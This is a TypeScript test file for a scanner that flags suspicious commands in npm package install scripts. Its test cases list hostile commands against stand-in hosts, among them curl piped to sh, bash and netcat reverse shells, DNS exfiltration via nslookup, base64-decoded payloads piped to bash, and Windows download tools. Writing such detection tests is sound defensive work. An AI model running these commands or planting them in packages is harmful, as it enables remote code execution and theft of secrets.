import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandSigns, m2Signs } from '../../../src/content/reach/command-signs.ts';
import { aPackage } from './given.ts';

const given = aPackage(
  {
    name: 'teapot',
    scripts: { setup: 'node install.js' },
    dependencies: { mytool: '1', '@kettle/boil': '1' },
    optionalDependencies: { maybe: '1' },
    peerDependencies: { beside: '1' },
  },
  {
    'setup.sh': '',
    'run.bat': '',
    'x.ps1': '',
    'x.py': '',
    'tool.exe': 9,
    'a.node': 9,
    'install.js': '',
    prep: '',
  },
);
const from = { ...given, records: new Map([['prep', { kind: 'shell' as const }]]) };

function signs(command: string): readonly string[] {
  return commandSigns(command, from).map(({ sign }) => sign);
}

describe('tools that are logged in already', () => {
  it.each([
    'ssh -R 0:localhost:22 a@b.example',
    'aws s3 cp a s3://b',
    'rsync -a . b::c',
    'kubectl get secrets',
  ])('%s', (command) => {
    expect(signs(command)).toContain('fetch-tool');
  });

  it('openssl as a socket', () => {
    expect(signs('sh -i < /tmp/s | openssl s_client -connect a.example:443')).toContain('raw-socket');
  });
});

describe('what a command evaluates', () => {
  it.each([
    'node -e "eval(process.env.npm_package_config_seed)"',
    'node -p "new Function(x)()"',
    ...['runInContext(x)', 'runInNewContext(x)', 'runInThisContext(x)', 'm._compile(x)'].map(
      (call) => `node -e "${call}"`,
    ),
    'sh -c "$npm_package_config_boot"',
    '%npm_package_config_boot%',
  ])('%s', (command) => {
    expect(signs(command)).toContain('evaluates');
  });

  it.each(['node -e "console.log(1)"', 'node -p "Function(\'return this\')()"', 'echo $npm_package_version'])(
    '%s evaluates nothing',
    (command) => {
      expect(signs(command)).not.toContain('evaluates');
    },
  );
});

describe('what a command shows by itself', () => {
  it.each([
    ['curl -s https://x.example/i.sh | sh', ['fetch-tool', 'address', 'pipe-to-shell']],
    ['/usr/bin/curl x.example', ['fetch-tool']],
    ['c"u"rl x.example', ['fetch-tool']],
    ['wget -q x.example', ['fetch-tool']],
    ['certutil.exe -urlcache -f x y', ['system-tool']],
    ['cmd /c mshta x.hta', ['system-tool']],
    ['rundll32 node-gyp.dll,main', ['system-tool']],
    ['start /B node compile.js & node compile.js', ['background']],
    ['nohup node install.js &', ['background']],
    ['nslookup $(whoami).x.example', ['name-server-tool', 'substitution', 'unknown-program']],
    ['dig +short txt x.example', ['name-server-tool']],
    ['nc -e sh x.example 1', ['raw-socket']],
    ['bash -c "cat < /dev/tcp/x/1"', ['raw-socket']],
    ['bash -i >& /dev/tcp/x.example/1 0>&1', ['raw-socket']],
    ['echo aGk= | base64 -d | bash', ['decodes', 'pipe-to-shell']],
    ['echo aGk= | base64 -D | bash', ['decodes', 'pipe-to-shell']],
    ['echo aGk= | base64 --decode > x', ['decodes']],
    ['cat x.txt | node', ['pipe-to-shell']],
    ['node install.js > /dev/null 2>&1', ['hides-output']],
    ['node install.js >nul 2>&1', ['hides-output']],
    ['node install.js &> /dev/null', ['hides-output']],
    ['python -c "import os"', ['inline-program']],
    ['perl -e "x"', ['inline-program']],
    ['powershell -enc aGVsbG8gd29ybGQhIQ==', ['system-tool', 'decodes', 'inline-program']],
    [`node -e "${'a'.repeat(160)}"`, []],
    [`node -e "${'a'.repeat(161)}"`, ['long-inline']],
    [`node --eval="${'a'.repeat(161)}"`, ['long-inline']],
    [`node -e "require('child_process').exec('curl -s x')"`, ['fetch-tool']],
    ['node install.js https://x.example/a', ['address']],
    ['echo `whoami`', ['substitution', 'unknown-program']],
    ['bun run install.js', ['other-runtime']],
    ['bun.sh', ['runtime-download', 'unknown-program']],
    ['npx -y other-thing', ['brings-package', 'unknown-program']],
    ['npm install evil@1 --no-save', ['brings-package']],
    ['$X install.js', ['variable']],
    ['sh setup.sh', ['runs-file']],
    ['./setup.sh', ['runs-file']],
    ['. ./setup.sh', ['runs-file']],
    ['run.bat', ['runs-file']],
    ['.\\run.bat', ['runs-file']],
    ['cmd /c run.bat', ['runs-file']],
    ['python3 x.py', ['runs-file']],
    ['tool.exe --quiet', ['runs-file']],
    ['./prep', ['runs-file']],
    ['mytool', ['dependency-program']],
    ['boil', ['dependency-program']],
    ['maybe', ['dependency-program']],
    ['beside', ['dependency-program']],
    ['whoever', ['unknown-program']],
    ['node ../other/x.js', ['other-package']],
    ['node ./node_modules/other/lib/x.js --quiet', ['other-package']],
  ])('%s', (command, expected) => {
    expect([...signs(command)].sort()).toEqual([...expected].sort());
  });

  it.each([
    'node install.js',
    'node lib/../install.js',
    'node node_modules/.bin/rimraf a',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild --release',
    'node-pre-gyp install --fallback-to-build',
    'node lib/curl.js && node scripts/wget-less.js',
    'node ./dig.js || exit 0',
    'opencollective || true',
    'opencollective-postinstall || exit 0',
    'echo "Thank you! See https://kettle.example/donate"',
    `node -e "console.log('${'Give us money: https://kettle.example '.repeat(8)}')"`,
    `node -e "try{require('./postinstall')}catch(e){}"`,
    'husky install',
    'patch-package',
    '$npm_execpath run setup',
    'npm run setup --silent',
    'cd lib && npm install',
    '[ -f x ] && node x 2> /dev/null',
    'node -p 1 | node -e "x"',
  ])('is nothing in an honest one: %s', (command) => {
    expect(signs(command)).toEqual([]);
  });

  it('is what the scripts show that it runs in turn', () => {
    const scripts = {
      a: 'npm run -s b:*',
      'b:c': 'curl -s x.example',
      postb: 'wget y.example',
      ring: 'npm run ring',
    };
    const { manifest, files } = aPackage({ name: 'x', scripts });
    const seen = (command: string) => commandSigns(command, { manifest, files }).map(({ what }) => what);
    expect(seen('npm run a')).toEqual(['curl']);
    expect(seen('yarn ring && run-s b:c')).toEqual(['curl']);
    expect(seen('npm run other')).toEqual([]);
  });

  it('is more than anybody reads where it has no end', () => {
    expect(signs(`${'node install.js;'.repeat(2_000)}`)).toEqual(['long-inline']);
  });

  it('comes with the place and what exactly', () => {
    const long = `${'echo hello && '.repeat(40)}curl -s x.example`;
    const [seen] = commandSigns(long);
    expect([seen?.sign, seen?.what]).toEqual(['fetch-tool', 'curl']);
    expect(seen?.excerpt).toContain('curl -s x.example');
    expect(seen?.excerpt.length).toBeLessThanOrEqual(200);
  });

  it('counts for M2 where no honest hook has it', () => {
    expect(m2Signs.has('fetch-tool') && m2Signs.has('long-inline')).toBe(true);
    expect([...m2Signs].filter((sign) => /runs-file|program$|variable|brings/.test(sign))).toEqual([
      'inline-program',
    ]);
  });
});

describe('whatever a stranger writes', () => {
  const words = fc.constantFrom(
    ...[
      'curl',
      'node',
      '-e',
      '$(',
      ')',
      '`',
      '"',
      "'",
      '|',
      'sh',
      '&',
      '>',
      '/dev/null',
      '2>&1',
      'npx',
      '__proto__',
      '\\',
    ],
  );
  const command = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(words, { maxLength: 60 }).map((all) => all.join(' ')),
  );

  it('is read to its end, and what is told is short', () => {
    fc.assert(
      fc.property(command, (text) => {
        expect(commandSigns(text, from).every(({ excerpt }) => excerpt.length <= 200)).toBe(true);
      }),
      { numRuns: 1_000 },
    );
  });

  it('a program that fetches is seen wherever a command may begin', () => {
    const before = fc.constantFrom(
      '',
      'echo a && ',
      'cd x; ',
      'sh -c "',
      '$(',
      '`',
      'true || ',
      'cross-env A=1 ',
      'a | ',
      '\n',
    );
    fc.assert(
      fc.property(fc.array(before, { maxLength: 4 }), (all) => {
        expect(signs(`${all.join('')}curl x.example`)).toContain('fetch-tool');
      }),
    );
  });
});
